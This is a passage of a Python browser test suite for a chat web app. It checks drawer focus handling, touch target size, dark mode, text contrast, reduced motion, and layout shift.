        page.until(lambda: page.one("#new").is_displayed(), "the drawer opens")
        assert page.one("#menu").get_attribute("aria-expanded") == "true"
        assert page.focus() == "new"
        assert page.js("return document.getElementById('main').inert")
        page.keys(Keys.ESCAPE)
        page.until(lambda: not page.one("#drawer").is_displayed(), "the drawer closes")
        assert page.focus() == "menu"
        page.click("#menu")
        page.until(lambda: page.one("#threads a").is_displayed(), "the drawer opens")
        page.click("#new")
        page.until(lambda: not page.one("#drawer").is_displayed(), "the drawer closes")
        assert (page.all(".turn"), page.focus()) == ([], "message")

    def test_touch_targets_are_large_enough(self, page: Page) -> None:
        page.size(390, 800, phone=True)
        page.open().say("big fingers")
        page.click("#menu")
        page.until(lambda: page.texts("#threads a"), "it is listed")
        small = (
            "return [...document.querySelectorAll('button, #threads a')].filter((node) => node.checkVisibility())"
            ".map((node) => node.getBoundingClientRect())"
            ".filter((box) => box.width && (box.width < 24 || box.height < 24)).length"
        )
        assert page.js(small) == 0

    def test_dark_by_the_system_and_by_choice(self, page: Page) -> None:
        ground = "return getComputedStyle(document.body).backgroundColor"
        page.open()
        light = page.js(ground)
        page.media("dark")
        dark = page.js(ground)
        assert light != dark
        page.click("#theme")
        assert page.js(ground) == light
        assert page.one("#theme").get_attribute("aria-pressed") == "false"
        page.driver.refresh()
        assert page.js(ground) == light
        page.click("#theme")
        assert page.js(ground) == dark
        page.media("light")  # the choice was the system's, so the system is followed again
        assert page.js(ground) == light

    @pytest.mark.parametrize("scheme", ["light", "dark"])
    def test_text_has_enough_contrast(self, page: Page, scheme: str) -> None:
        page.media(scheme)
        page.open().say(f"# T\n\n> q [a](https://a.example/) `c`\n\n```\ncode\n```\n\n| a |\n|---|\n| b |\n\n {SUM}")
        page.until(lambda: "6*7" in page.shown(".tool .short"), "the arguments are shown")
        page.click(".tool summary")
        page.send("bad luck [[fault 400]]")
        page.shows("The model gave no usable answer.")
        page.idle()
        page.click("#threads li:first-child button[aria-label=Delete]")
        poor = page.js(CONTRAST)
        assert poor == []

    def test_nothing_moves_by_itself_where_that_is_not_wanted(self, page: Page) -> None:
        page.media(motion="reduce")
        page.open().send("slow [[delay 1]]")
        page.one(".spinner")
        assert page.js("return document.getAnimations().filter((each) => each.playState === 'running').length") == 0
        page.idle()

    def test_the_layout_does_not_shift_and_the_first_paint_is_light(self, page: Page) -> None:
        page.open().say("something to load")
        page.driver.refresh()
        page.shows("I see 1 user message")
        # Written to a property, for buffered entries arrive in a task of their own.
        page.js(
            "window.shift = 0; new PerformanceObserver((list) => { for (const entry of list.getEntries())"
            " window.shift += entry.value; }).observe({type: 'layout-shift', buffered: true});"
            "setTimeout(() => { window.counted = true; }, 300)"
        )
        page.until(lambda: page.js("return window.counted"), "the shifts are counted")
        shift = page.js("return window.shift")
        assert shift < 0.01
        loaded = page.js("return performance.getEntriesByType('resource').map((entry) => entry.name)")
        fetched = sorted(name.rpartition("/")[2] for name in loaded if "/assets/" in name)
        assert fetched == sorted(FILES)  # each once
